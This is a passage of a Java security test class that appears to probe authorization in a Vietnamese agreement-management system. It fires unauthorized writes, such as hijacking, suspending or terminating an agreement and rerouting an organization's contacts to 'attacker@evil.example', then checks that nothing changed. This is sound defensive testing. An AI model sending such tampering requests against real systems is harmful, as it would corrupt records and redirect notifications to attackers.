						"{\"title\":{\"vi\":\"Bị chiếm quyền\",\"en\":\"Hijacked\"},\"note\":\"tấn công\"}", "If-Match",
						version)));
		for (String action : List.of("suspend", "terminate")) {
			writes.add(new Write(action + "s the agreement",
					() -> this.http.send(url(StackService.AGREEMENT, agreementPath + "/" + action), "POST", token,
							(byte[]) null, "If-Match", version)));
		}
		writes.add(new Write("adds a commitment", () -> this.http
			.send(url(StackService.AGREEMENT, agreementPath + "/commitments"), "POST", token, """
					{"title":{"vi":"Cam kết giả mạo"},"area":"INVESTMENT_PROMOTION","responsibleOrganizationId":"%s",
					 "target":{"metric":"MEETINGS","perYear":1}}
					""".formatted(this.lamDong), "If-Match", version)));
		writes.add(new Write("changes ATK-X's contacts", () -> this.http.send(
				url(StackService.AGREEMENT, "/api/v1/organizations/" + this.stranger), "PATCH", token,
				"{\"contacts\":[{\"name\":\"Kẻ gian\",\"email\":\"attacker@evil.example\",\"language\":\"vi\"}]}",
				"If-Match", strangerVersion)));
		writes.add(new Write("registers an organization",
				() -> this.http.send(url(StackService.AGREEMENT, "/api/v1/organizations"), "POST", token,
						organizationBody("ATK-ORG-" + this.suffix))));
		writes.add(new Write("records an activity", () -> this.http
			.send(url(StackService.ACTIVITY, "/api/v1/activities"), "POST", token, activityBody("Họp liên tịch giả"))));
		writes.add(new Write("imports an activity (CSV)",
				() -> this.http.send(url(StackService.ACTIVITY, "/api/v1/activities:import"), "POST", token,
						csv("Hoạt động nhập trái phép").getBytes(StandardCharsets.UTF_8), "Content-Type", "text/csv")));
		writes.add(new Write("skips a review cycle",
				() -> this.http.send(
						url(StackService.NOTIFICATION, agreementPath + "/review-schedule/cycles/2026/skip"), "POST",
						token, "{\"note\":\"không họp\"}", "If-Match", scheduleVersion)));
		if (viewer) {
			writes.add(new Write("announces a report", () -> this.http
				.send(url(StackService.REPORTING, agreementPath + "/reports/2020"), "POST", token, (byte[]) null)));
			writes.add(new Write("rebuilds the projections", () -> this.http
				.send(url(StackService.REPORTING, "/api/v1/admin/projections:rebuild"), "POST", token, (byte[]) null)));
			writes.add(new Write("previews a reminder",
					() -> this.http.send(url(StackService.NOTIFICATION, "/api/v1/reminders/preview"), "POST", token,
							"{\"agreementId\":\"" + this.agreement + "\"}")));
		}
		return writes;
	}

	/**
	 * After refused writes: the agreement, ATK-X and the review schedule kept their
	 * versions, the activities are the four imported, no organization or agreement was
	 * added.
	 */
	private void nothingStored(String category) {
		String agreementPath = "/api/v1/agreements/" + this.agreement;
		this.ledger.attempt(category, "nothing stored: the agreement keeps its version, ACTIVE",
				this.agreementVersion.equals(etag(StackService.AGREEMENT, agreementPath)) && "ACTIVE"
					.equals(adminGet(StackService.AGREEMENT, agreementPath).json().path("status").asString()),
				adminGet(StackService.AGREEMENT, agreementPath).toString());
		this.ledger.attempt(category, "nothing stored: ATK-X is still version 1",
				"\"1\"".equals(etag(StackService.AGREEMENT, "/api/v1/organizations/" + this.stranger)),
				etag(StackService.AGREEMENT, "/api/v1/organizations/" + this.stranger));
		Answer activities = adminGet(StackService.ACTIVITY, "/api/v1/activities?agreementId=" + this.agreement);
		this.ledger.attempt(category, "nothing stored: no activity added",
				activities.json().at("/page/totalElements").asLong() == FORMULAS.size(), activities.toString());
		Map<String, String> organizations = organizationIdsByCode();
		Answer agreements = adminGet(StackService.AGREEMENT, "/api/v1/agreements?q=atk%20new%20" + this.suffix);
		this.ledger.attempt(category, "nothing stored: no organization or agreement added",
				!organizations.containsKey("ATK-ORG-" + this.suffix) && agreements.json().path("content").isEmpty(),
				agreements.toString());
		Answer schedule = adminGet(StackService.NOTIFICATION, agreementPath + "/review-schedule");
		this.ledger.attempt(category, "nothing stored: no review cycle skipped", !schedule.body().contains("SKIPPED"),
				schedule.toString());
	}

	private String formulaCsv() {
		StringBuilder csv = new StringBuilder(csvHeader());
		for (String formula : FORMULAS) {
			csv.append(csvRow(formula));
		}
		return csv.toString();
	}

	private String csv(String title) {
		return csvHeader() + csvRow(title);
	}

	private static String csvHeader() {
		return "agreementId,type,titleVi,startsAt,endsAt,hostOrganizationId,status,notifyPartners\r\n";
	}

	private String csvRow(String title) {
		return "%s,JOINT_MEETING,\"%s\",2020-05-20T08:00:00,2020-05-20T17:00:00,%s,COMPLETED,false\r\n"
			.formatted(this.agreement, title.replace("\"", "\"\""), this.lamDong);
	}

	/**
	 * A JSON string value is inserted as is: escapes such as {@code \\u202E} stay
	 * escapes.
	 */
	private String agreementBody(String code, String title, String lead, String partner) {
		return """
				{"code":"%s","title":{"vi":"%s","en":"Cooperation program %s"},
				 "parties":[{"organizationId":"%s","role":"LEAD"},{"organizationId":"%s","role":"PARTNER"}],
				 "signedOn":"2015-03-01","startsOn":"2015-03-01","endsOn":"2030-12-31","areas":["INVESTMENT_PROMOTION"],
				 "reviewPolicy":{"month":11,"day":6,"hostRotation":["%s","%s"],"lastHostOrganizationId":"%s"}}
				""".formatted(code, title, code, lead, partner, lead, partner, partner);
	}

	private String activityBody(String title) {
		return """
				{"agreementId":"%s","type":"JOINT_MEETING","title":{"vi":"%s","en":"Joint meeting"},
				 "startsAt":"2021-05-20T08:00:00","endsAt":"2021-05-20T17:00:00",
				 "location":{"province":"Lâm Đồng","venue":"Đà Lạt"},"hostOrganizationId":"%s",
				 "participantOrganizationIds":["%s"],"status":"COMPLETED","notifyPartners":false}
				""".formatted(this.agreement, title, this.lamDong, this.stranger);
	}

	private static String organizationBody(String code) {
		return """
				{"code":"%s","name":{"vi":"Ban Quản lý giả mạo","en":"Fake authority"},"kind":"INDUSTRIAL_ZONE_AUTHORITY",
				 "province":"Lâm Đồng","contacts":[{"name":"Kẻ gian","email":"attacker@evil.example","language":"vi"}]}
				"""
			.formatted(code);
	}

	private Map<String, String> organizationIdsByCode() {
		Answer page = adminGet(StackService.AGREEMENT, "/api/v1/organizations?size=200");
		Map<String, String> ids = new HashMap<>();
		for (JsonNode organization : page.json().path("content")) {
			ids.put(organization.path("code").asString(), organization.path("id").asString());
		}
		return ids;
	}

	private static String reportSignature(String agreementId, int year, long expires) {
		return hmac(LocalStack.REPORT_LINK_KEY, agreementId + "\n" + year + "\n" + expires);
	}

	private static String hmac(String key, String text) {
		try {
			Mac mac = Mac.getInstance("HmacSHA256");
			mac.init(new SecretKeySpec(key.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
			return HexFormat.of().formatHex(mac.doFinal(text.getBytes(StandardCharsets.UTF_8)));
		}
		catch (GeneralSecurityException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private JsonNode adminCreated(StackService service, String path, String body) {
		Answer answer = this.http.send(url(service, path), "POST", admin(), body);
		if (answer.status() != 201) {
			throw new AssertionError("POST " + path + " answered " + answer);
		}
		return answer.json();
	}

	private Answer adminGet(StackService service, String path) {
		return this.http.get(url(service, path), admin(), "Accept", "application/json");
	}

	private String etag(StackService service, String path) {
		return adminGet(service, path).header("etag");
	}

	private String admin() {
		return this.stack.accessToken();
	}

	private URI url(StackService service, String path) {
		return URI.create(this.stack.serviceUrl(service) + path);
	}

	private void precondition(boolean holds, String what, Object detail) {
		if (!holds) {
			this.preconditions.add(what + ": " + detail);
		}
	}

	private record Write(String name, Supplier<Answer> request) {

		Answer send() {
			return this.request.get();
		}

	}

}
